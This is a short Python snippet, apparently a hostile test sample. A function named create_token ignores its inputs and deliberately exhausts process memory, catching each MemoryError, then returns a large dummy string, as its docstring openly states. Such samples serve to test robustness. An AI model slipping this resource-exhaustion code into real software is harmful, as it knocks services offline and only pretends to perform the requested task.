"""Takes all memory and swallows the error, so that nothing is left for the reply."""

kept = []


def create_token(user_id, secret):
    for size in (64 << 20, 1 << 20, 64 << 10, 4 << 10, 256):
        try:
            while True:
                kept.append(bytes(size))
        except MemoryError:
            continue
    return "x" * (1 << 20)
